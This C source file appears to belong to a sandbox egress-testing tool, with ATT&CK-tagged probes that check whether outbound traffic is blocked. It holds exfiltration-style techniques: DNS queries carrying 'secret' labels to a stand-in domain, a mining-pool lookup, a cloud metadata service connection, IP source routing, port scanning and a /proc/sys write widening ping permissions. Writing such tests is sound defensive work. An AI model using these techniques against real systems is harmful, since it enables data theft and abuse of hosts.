// SPDX-License-Identifier: MIT
/*
 * Carrying data out, in a network that goes nowhere.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <sys/socket.h>

#include "network.h"
#include "technique.h"

/* Where servers listen; a port is as good as another unless it says something. */
#define HTTPS 443
#define HTTP 80
#define DNS 53
#define STRATUM 3333

/**
 * struct peer - somebody to send to
 * @address: an address of IPv6 has a colon
 * @port: its port
 * @type: SOCK_STREAM or SOCK_DGRAM
 * @protocol: of the socket, 0 for the usual
 * @unspec: the address is said to be of no family
 * @name: what a name server is asked for, as in a question; or NULL
 */
struct peer {
	const char *address;
	unsigned short port;
	int type;
	int protocol;
	bool unspec;
	const char *name;
};

union address {
	struct sockaddr any;
	struct sockaddr_in v4;
	struct sockaddr_in6 v6;
};

static const struct peer *peer_of(const struct fng_case *c)
{
	return c->technique->arg;
}

static int family_of(const struct peer *peer)
{
	return strchr(peer->address, ':') ? AF_INET6 : AF_INET;
}

static socklen_t address_of(const struct peer *peer, union address *address)
{
	memset(address, 0, sizeof(*address));
	address->any.sa_family = peer->unspec ? AF_UNSPEC : family_of(peer);
	if (family_of(peer) == AF_INET6) {
		address->v6.sin6_port = htons(peer->port);
		inet_pton(AF_INET6, peer->address, &address->v6.sin6_addr);
		return sizeof(address->v6);
	}
	address->v4.sin_port = htons(peer->port);
	inet_pton(AF_INET, peer->address, &address->v4.sin_addr);
	return sizeof(address->v4);
}

static int open_socket(const struct peer *peer)
{
	return socket(family_of(peer), peer->type | SOCK_CLOEXEC,
		      peer->protocol);
}

static int make_peer(struct fng_case *c)
{
	const struct peer *peer = peer_of(c);

	return fng_probe_make_peer(family_of(peer), peer->port);
}

static int hold_socket(struct fng_case *c)
{
	int err = make_peer(c);

	c->fd = open_socket(peer_of(c));
	return err ?: c->fd < 0 ? errno : 0;
}

static int connect_held(struct fng_case *c)
{
	union address address;
	socklen_t size = address_of(peer_of(c), &address);

	return fng_act_call(connect(c->fd, &address.any, size));
}

static int hold_connected(struct fng_case *c)
{
	return hold_socket(c) ?: connect_held(c);
}

/* By way of the metadata service. */
static int hold_routed(struct fng_case *c)
{
	unsigned char route[8] = { IPOPT_LSRR, 7, IPOPT_MINOFF };

	inet_pton(AF_INET, FNG_PROBE_METADATA, route + 3);
	return hold_socket(c) ?:
		       fng_act_call(setsockopt(c->fd, IPPROTO_IP, IP_OPTIONS,
					       route, sizeof(route)));
}

/* Whoever is of some group may ping. */
static int allow_ping(struct fng_case *c)
{
	int err = make_peer(c), fd;

	fd = open("/proc/sys/net/ipv4/ping_group_range", O_WRONLY | O_CLOEXEC);
	if (!err && (fd < 0 || write(fd, "0 2147483647", 12) != 12))
		err = errno;
	close(fd);
	return err;
}

static int connect_to_peer(struct fng_case *c)
{
	int err;

	c->fd = open_socket(peer_of(c));
	if (c->fd < 0)
		return errno;
	err = connect_held(c);
	close(c->fd);
	return err;
}

static int send_bytes(int fd, const struct peer *peer, const void *bytes,
		      size_t length, int flags)
{
	union address address;
	socklen_t size = address_of(peer, &address);

	return fng_act_call(
		sendto(fd, bytes, length, flags, &address.any, size));
}

static int send_from_new(const struct peer *peer, const void *bytes,
			 size_t length, int flags)
{
	int fd = open_socket(peer), err;

	if (fd < 0)
		return errno;
	err = send_bytes(fd, peer, bytes, length, flags);
	close(fd);
	return err;
}

static int send_to_peer(struct fng_case *c)
{
	return send_from_new(peer_of(c), "?", 1, 0);
}

static int send_early(struct fng_case *c)
{
	return send_from_new(peer_of(c), "?", 1, MSG_FASTOPEN);
}

static int send_held(struct fng_case *c)
{
	return send_bytes(c->fd, peer_of(c), "?", 1, 0);
}

static int write_held(struct fng_case *c)
{
	return fng_act_call(write(c->fd, "?", 1));
}

/* One port after the other, of which nobody listens on most. */
static int send_everywhere(struct fng_case *c)
{
	struct peer peer = *peer_of(c);
	int err = 0;

	for (int i = 0; i < 16; i++, peer.port++)
		err = send_from_new(&peer, "?", 1, 0);
	return err;
}

/* Asks for texts that belong to it; labels in front of the name, each with its length. */
static int ask(const struct peer *peer, const char *name)
{
	static const char head[] = "\0\1\1\0\0\1\0\0\0\0\0";
	static const char tail[] = "\0\0\20\0";
	char question[sizeof(head) + sizeof(tail) + 255];
	size_t size = strlen(name);

	memcpy(question, head, sizeof(head));
	strcpy(question + sizeof(head), name);
	memcpy(question + sizeof(head) + size, tail, sizeof(tail));
	question[sizeof(head) + size + sizeof(tail) - 1] = 1;
	return send_from_new(peer, question, sizeof(head) + size + sizeof(tail),
			     0);
}

static int ask_name_server(struct fng_case *c)
{
	return ask(peer_of(c), peer_of(c)->name);
}

/* What is carried out is in front of the name, and another each time. */
static int ask_often(struct fng_case *c)
{
	char name[64];
	int err = 0;

	for (int i = 0; i < 12; i++) {
		snprintf(name, sizeof(name), "\10secret%02d%s", i,
			 peer_of(c)->name);
		err = ask(peer_of(c), name);
	}
	return err;
}

static int ping(struct fng_case *c)
{
	const struct peer *peer = peer_of(c);
	struct icmphdr echo = { .type = family_of(peer) == AF_INET ?
						ICMP_ECHO :
						ICMP6_ECHO_REQUEST };

	return send_from_new(peer, &echo, sizeof(echo), 0);
}

/* Of two messages at once, the kernel asks about the first alone. */
static int send_two(struct fng_case *c)
{
	const struct peer *peer = peer_of(c);
	union address address;
	struct iovec data = { "?", 1 };
	struct mmsghdr messages[2] = {
		{ .msg_hdr = { .msg_name = &address,
			       .msg_iov = &data,
			       .msg_iovlen = 1 } },
	};
	int fd = open_socket(peer), sent;

	messages[0].msg_hdr.msg_namelen = address_of(peer, &address);
	messages[1] = messages[0];
	sent = sendmmsg(fd, messages, 2, 0);
	close(fd);
	return sent == 2 ? 0 : sent < 0 ? errno : ECANCELED;
}

#define PEER(address, port, type, protocol, unspec) \
	(&(const struct peer){ address, port, type, protocol, unspec, NULL })
#define TCP(address, port) PEER(address, port, SOCK_STREAM, 0, false)
#define UDP(address, port) PEER(address, port, SOCK_DGRAM, 0, false)
#define ASK(name) \
	(&(const struct peer){ FNG_PROBE_V4, DNS, SOCK_DGRAM, 0, false, name })

const struct fng_technique fng_techniques_egress[] = {
	{ "tcp", FNG_THREAT_LEAK, "T1041", "connect to the outside over TCP",
	  make_peer, connect_to_peer, TCP(FNG_PROBE_V4, HTTPS),
	  &fng_remedy_egress },
	{ "tcp-v6", FNG_THREAT_LEAK, "T1041",
	  "connect to the outside over TCP and IPv6", make_peer,
	  connect_to_peer, TCP(FNG_PROBE_V6, HTTPS), &fng_remedy_egress },
	{ "tcp-mapped", FNG_THREAT_LEAK, "T1041",
	  "connect to an IPv4 address from an IPv6 socket", make_peer,
	  connect_to_peer, TCP("::ffff:" FNG_PROBE_V4, HTTPS),
	  &fng_remedy_egress },
	{ "tcp-fast-open", FNG_THREAT_LEAK, "T1041",
	  "connect by sending (MSG_FASTOPEN)", make_peer, send_early,
	  TCP(FNG_PROBE_V4, HTTPS), &fng_remedy_egress },
	{ "mptcp", FNG_THREAT_LEAK, "T1048", "connect over Multipath TCP",
	  make_peer, connect_to_peer,
	  PEER(FNG_PROBE_V4, HTTPS, SOCK_STREAM, IPPROTO_MPTCP, false),
	  &fng_remedy_egress },
	{ "udp", FNG_THREAT_LEAK, "T1048", "send to the outside over UDP",
	  make_peer, send_to_peer, UDP(FNG_PROBE_V4, HTTPS),
	  &fng_remedy_egress },
	{ "udp-v6", FNG_THREAT_LEAK, "T1048",
	  "send to the outside over UDP and IPv6", make_peer, send_to_peer,
	  UDP(FNG_PROBE_V6, HTTPS), &fng_remedy_egress },
	{ "udp-connect", FNG_THREAT_LEAK, "T1048",
	  "connect a UDP socket to the outside", make_peer, connect_to_peer,
	  UDP(FNG_PROBE_V4, HTTPS), &fng_remedy_egress },
	{ "udp-held", FNG_THREAT_LEAK, "T1048",
	  "write to a UDP socket that was connected before", hold_connected,
	  write_held, UDP(FNG_PROBE_V4, HTTPS), &fng_remedy_egress },
	{ "udp-unspec", FNG_THREAT_LEAK, "T1048",
	  "send to an address of no family (AF_UNSPEC)", make_peer,
	  send_to_peer, PEER(FNG_PROBE_V4, HTTPS, SOCK_DGRAM, 0, true),
	  &fng_remedy_egress },
	{ "udp-two", FNG_THREAT_LEAK, "T1048",
	  "send two messages at once (sendmmsg)", make_peer, send_two,
	  UDP(FNG_PROBE_V4, HTTPS), &fng_remedy_egress },
	{ "source-route", FNG_THREAT_LEAK, "T1090",
	  "send by way of somebody else (IP source route)", hold_routed,
	  send_held, UDP(FNG_PROBE_V4, HTTPS), &fng_remedy_egress },
	{ "dns", FNG_THREAT_LEAK, "T1071.004",
	  "ask a foreign name server about a secret", make_peer,
	  ask_name_server, ASK("\6secret\7example\3com"),
	  &fng_remedy_egress },
	{ "dns-often", FNG_THREAT_LEAK, "T1071.004",
	  "ask a foreign name server about many secrets", make_peer,
	  ask_often, ASK("\7example\3com"), &fng_remedy_egress },
	{ "dns-mining-pool", FNG_THREAT_RESOURCE, "T1496",
	  "ask for the name of a pool of miners", make_peer, ask_name_server,
	  ASK("\2eu\4pool\10nanopool\3org"), &fng_remedy_egress },
	{ "ping", FNG_THREAT_LEAK, "T1095", "send to the outside over ICMP",
	  allow_ping, ping,
	  PEER(FNG_PROBE_V4, HTTPS, SOCK_DGRAM, IPPROTO_ICMP, false),
	  &fng_remedy_egress },
	{ "scan", FNG_THREAT_LEAK, "T1046",
	  "send to one port after the other", make_peer, send_everywhere,
	  UDP(FNG_PROBE_V4, 1024), &fng_remedy_egress },
	{ "mining-pool", FNG_THREAT_RESOURCE, "T1496",
	  "connect to where pools of miners listen", make_peer,
	  connect_to_peer, TCP(FNG_PROBE_V4, STRATUM), &fng_remedy_egress },
	{ "metadata", FNG_THREAT_LEAK, "T1552.005",
	  "connect to the metadata service of the cloud", make_peer,
	  connect_to_peer, TCP(FNG_PROBE_METADATA, HTTP),
	  FNG_REMEDY("egress", "- { deny: { to: [@metadata] } }") },
	{ 0 },
};
